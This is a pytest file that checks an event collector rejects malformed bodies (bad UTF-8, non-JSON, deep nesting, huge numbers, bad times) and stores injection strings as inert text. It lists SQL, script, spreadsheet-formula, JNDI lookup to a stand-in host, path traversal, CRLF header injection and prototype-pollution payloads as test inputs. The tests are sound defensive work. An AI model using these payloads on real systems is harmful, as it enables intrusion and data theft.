"""Hostile text in bodies, through every door of a real collector: what is no JSON, what is no text, what is too deep,
too long or twice. A message that is bad sinks no other that could be read, and nothing of it is passed on.
"""

from __future__ import annotations

import json

import pytest
from siege import DOORS, Siege, body_of, message, with_field

each_door = pytest.mark.parametrize("door", DOORS)


# --- what sinks its whole request, because nobody can say where the next message begins

NOT_TEXT = {
    "an overlong slash": b"\xc0\xaf",
    "an overlong NUL": b"\xc0\x80",
    "an overlong letter in three bytes": b"\xe0\x80\xaf",
    "an overlong letter in four bytes": b"\xf0\x80\x80\xaf",
    "half a character as bytes": b"\xed\xa0\x80",
    "beyond the last character": b"\xf4\x90\x80\x80",
    "five bytes": b"\xf8\x88\x80\x80\x80",
    "a lone continuation": b"\x80",
    "a cut character": b"\xe2\x82",
    "no byte of any text": b"\xff\xfe",
}
NOT_JSON = {
    "NaN": b"NaN",
    "Infinity": b"Infinity",
    "minus Infinity": b"-Infinity",
    "a hexadecimal number": b"0x10",
    "a number with a leading zero": b"007",
    "a bare NUL": b'"a\x00b"',
    "a bare line feed": b'"a\nb"',
    "a bare escape": b'"a\x1b[31mb"',
    "single quotes": b"'a'",
    "a trailing comma": b"[1,]",
    "a comment": b"1 /* a */",
    "an unknown escape": b'"\\x41"',
    "half an escape": b'"\\u00"',
}


@each_door
@pytest.mark.parametrize("name", NOT_TEXT)
def test_what_is_no_text_is_refused_as_a_whole(siege: Siege, door: str, name: str) -> None:
    bad = with_field(door, b'"messageId":"' + NOT_TEXT[name] + b'"')
    answer = siege.post(door, body_of(door, message(door), bad))
    assert (answer.status, answer.reason) == (400, "not_utf8")


@each_door
@pytest.mark.parametrize("name", NOT_JSON)
def test_what_is_no_json_is_refused_as_a_whole(siege: Siege, door: str, name: str) -> None:
    before = siege.count("events")
    answer = siege.post(door, body_of(door, message(door), with_field(door, b'"messageId":' + NOT_JSON[name])))
    assert (answer.status, answer.reason) == (400, "invalid")
    assert siege.count("events") == before


@each_door
@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-16-be", "utf-32"])
def test_another_encoding_and_a_byte_order_mark_are_refused(siege: Siege, door: str, encoding: str) -> None:
    assert siege.post(door, body_of(door, message(door)).decode().encode(encoding)).status == 400


@each_door
@pytest.mark.parametrize(("opening", "closing"), [(b"[", b"]"), (b'{"a":', b"}"), (b'[{"a":', b"}]")])
@pytest.mark.parametrize("field", [b"properties", b"context", b"traits", b"consent", b"messageId", b"app"])
def test_what_is_nested_too_deeply_is_refused(
    siege: Siege, door: str, field: bytes, opening: bytes, closing: bytes
) -> None:
    depth = 60_000 // len(opening + closing) if door == "/e" else 100_000
    deep = b'"' + field + b'":' + opening * depth + b"1" + closing * depth
    answer = siege.post(door, body_of(door, message(door), with_field(door, deep)))
    assert (answer.status, answer.reason) == (400, "too_deep")


# --- what sinks its own message alone

BAD_VALUES = {
    "an integer of 30,000 digits": b"9" * 30_000,
    "a negative one": b"-" + b"9" * 30_000,
    "a fraction of 30,000 digits": b"0." + b"9" * 30_000,
    "a number out of range": b"1e999",
    "a number out of range below": b"-1e999",
    "an exponent of 5,000 digits": b"1e" + b"9" * 5_000,
    "half a character": b'"\\ud800"',
    "the other half": b'"\\udc00"',
    "the halves in the wrong order": b'"\\udc00\\ud800"',
    "NUL as an escape": b'"a\\u0000b"',
    "60,000 characters": b'"' + b"x" * 60_000 + b'"',
    "an object": b'{"toString":1}',
    "a list": b'["a"]',
    "true": b"true",
    "nothing": b'""',
}


@each_door
@pytest.mark.parametrize("field", ["messageId", "app"])
@pytest.mark.parametrize("name", BAD_VALUES)
def test_a_bad_value_sinks_no_other_message(siege: Siege, door: str, field: str, name: str) -> None:
    bad = with_field(door, f'"{field}":'.encode() + BAD_VALUES[name])
    answer = siege.post(door, body_of(door, message(door), bad, message(door)))
    assert answer.status == 200
    assert (answer.json()["stored"], [index for index, _ in answer.rejected]) == (2, [1])
    assert {reason for _, reason in answer.rejected} <= {"invalid", "unknown_app"}


HOSTILE_TIMES = [
    b"1e999",
    b"1e18",
    b"-1",
    b"9" * 20,
    b'"infinity"',
    b'"2026-02-30T00:00:00Z"',
    b'"2026-03-29T25:00:00Z"',
]
HOSTILE_TIMES += [b'"2026-03-29T00:00:00+99:99"', b'"' + b"2" * 50_000 + b'"', b'"0000-00-00T00:00:00Z"', b'"now"']


@each_door
@pytest.mark.parametrize("moment", HOSTILE_TIMES, ids=lambda moment: str(moment[:30]))
def test_a_time_that_is_none_is_refused(siege: Siege, door: str, moment: bytes) -> None:
    answer = siege.post(door, body_of(door, message(door), with_field(door, b'"occurredAt":' + moment)))
    assert (answer.status, answer.rejected) == (200, [(1, "invalid")])


# --- what is text, however it looks


@each_door
@pytest.mark.parametrize(
    "text",
    [
        "'; drop table events; --",
        "<script>alert(1)</script>",
        "javascript:alert(1)",
        "=cmd|' /C calc'!A0",
        '{"$ne": null}',
        "${jndi:ldap://evil.example/a}",
        "../../etc/passwd",
        "a\r\nSet-Cookie: a=b\r\n\r\nHTTP/1.1 200 OK",
        'x"} 1\nfootfall_store_unwell{a="',
        "\x1b[2J\x1b]0;title\x07\x7f\x9b",
        "\u2028\u2029\u202e\u2066\ufeff\ufffe\uffff\U0001ffff\U0010ffff",
        "\u0301" * 90,
    ],
)
def test_text_is_text_and_reaches_no_header_log_or_label(siege: Siege, door: str, text: str) -> None:
    told = message(door, messageId=text)
    if door == "/e":
        told |= {"title": text, "label": text, "target": text[:30], "version": text[:30]}
    answer = siege.post(door, body_of(door, told))
    assert answer.status in (200, 204)
    assert {name for name, _ in answer.headers} <= KNOWN_HEADERS
    assert [value for _, value in answer.headers if text in value] == []
    newest = siege.footfall.value("events", "select details from events order by seq desc limit 1")
    assert json.loads(newest)["message_id"] == text
    assert text not in siege.collector.get("/metrics").text


KNOWN_HEADERS = {
    "date",
    "connection",
    "content-length",
    "content-type",
    "vary",
    "access-control-allow-origin",
    "access-control-allow-credentials",
    "access-control-expose-headers",
}


@each_door
def test_names_that_mean_something_to_a_language_are_ignored(siege: Siege, door: str) -> None:
    names = ["__proto__", "constructor", "prototype", "__class__", "__init__", "__dict__", "$where", "", "toString"]
    told = message(door)
    polluted = told | {name: {"isAdmin": "polluted", "suppressed": "polluted"} for name in names}
    assert siege.post(door, body_of(door, polluted)).status in (200, 204)
    assert "polluted" not in json.dumps(siege.details(told["messageId"]))
    assert siege.column("suppressed", told["messageId"]) is None


@each_door
def test_of_a_name_that_is_there_twice_the_last_counts_and_is_the_one_that_is_judged(siege: Siege, door: str) -> None:
    for first, last, stored in [("com.nobody", "com.owner.charts", 1), ("com.owner.charts", "com.nobody", 0)]:
        told = message(door, app=first)
        twice = json.dumps(told).encode()[:-1] + f',"app":"{last}"}}'.encode()
        before = siege.count("events")
        siege.post(door, body_of(door, twice))
        assert siege.count("events") == before + stored
